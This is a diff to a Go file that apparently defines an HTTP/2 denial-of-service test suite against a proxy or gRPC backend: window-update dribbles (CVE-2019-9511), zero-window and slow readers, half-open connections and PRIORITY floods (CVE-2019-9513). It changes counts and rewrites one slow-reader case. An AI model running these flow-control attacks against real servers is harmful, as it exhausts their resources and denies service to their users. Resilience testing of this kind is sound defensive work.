@@ -161,12 +161,12 @@ func All() []Attack {
 				_ = c.WriteData(1, false, zeros[:1])
 				return c.step(1)
 			}))},
-		{"WINDOW_UPDATE dribble", "fifty downloads without a window, which gets one byte larger at a time (CVE-2019-9511)", 4,
+		{"WINDOW_UPDATE dribble", "ten downloads without a window, which gets one byte larger at a time (CVE-2019-9511)", 4,
 			h2(options{settings: noWindow}, repeat(func(c *conn, i int) error {
-				if i < 50 {
+				if i < 10 {
 					_, _ = c.call(stream, download(160, 64<<10))
 				}
-				_ = c.WriteWindowUpdate(uint32(2*(i%min(50, i+1))+1), 1)
+				_ = c.WriteWindowUpdate(uint32(2*(i%min(10, i+1))+1), 1)
 				_ = c.WriteWindowUpdate(0, 1)
 				return c.step(2)
 			}))},
@@ -194,7 +194,7 @@ func All() []Attack {
 				}
 				return c.step(10)
 			}))},
-		{"zero window", "250 downloads with SETTINGS_INITIAL_WINDOW_SIZE 0", 2,
+		{"zero window", "250 downloads with SETTINGS_INITIAL_WINDOW_SIZE 0", 1,
 			h2(options{settings: noWindow}, func(c *conn) error {
 				for range manyCall {
 					_, _ = c.call(stream, download(160, 64<<10))
@@ -204,7 +204,7 @@ func All() []Attack {
 				}
 				return c.hold()
 			})},
-		{"slow reader", "250 downloads with all the window there is, and nothing is read", 2,
+		{"slow reader", "250 downloads with all the window there is, and nothing is read", 1,
 			h2(options{settings: allWindow, deaf: true}, func(c *conn) error {
 				_ = c.WriteWindowUpdate(0, math.MaxInt32-65535)
 				for range manyCall {
@@ -215,22 +215,27 @@ func All() []Attack {
 				}
 				return c.hold()
 			})},
-		{"reader that stops", "250 downloads that are read fast at first, so that windows grow, and then not at all", 1,
-			h2(options{settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 512 << 10}}}, func(c *conn) error {
+		{"reader that stops", "250 downloads; of 50 of them 4 MiB each are read fast, so that windows grow, and then nothing", 1,
+			h2(options{settings: noWindow}, func(c *conn) error {
 				_ = c.WriteWindowUpdate(0, math.MaxInt32-65535)
-				for range manyCall {
-					_, _ = c.call(stream, download(160, 64<<10))
-					if err := c.step(2); err != nil {
+				for i := range manyCall {
+					id, _ := c.call(stream, download(160, 64<<10))
+					if i < 50 {
+						_ = c.WriteWindowUpdate(id, 4<<20)
+					}
+					c.frames += 3
+					if err := c.flush(); err != nil {
 						return err
 					}
+					sleep(c.ctx, 5*time.Millisecond)
 				}
-				return c.hold() // each stream has read its 512 KiB and never gives another window
+				return c.hold()
 			})},
 		{"half-open", "connections that stop in the middle of a preface, after it, in a ClientHello, in an HTTP/1.1 head", 300,
 			halfOpen()},
 		{"backend without a window", "250 uploads to a backend whose streams have no window", 4, uploads("/" + ZeroService + "/Upload")},
 		{"backend that never credits", "250 uploads to a backend that never sends WINDOW_UPDATE", 4, uploads("/" + SilentService + "/Upload")},
-		{"backend that does not read", "250 uploads to a grpc-go handler that does not read", 2, uploads(upload)},
+		{"backend that does not read", "250 uploads to a grpc-go handler that does not read", 1, uploads(upload)},
 		{"PRIORITY and unknown frames", "PRIORITY frames (CVE-2019-9513) and frames of a type that nobody knows", 4,
 			h2(options{}, repeat(func(c *conn, i int) error {
 				if i%2 == 0 {
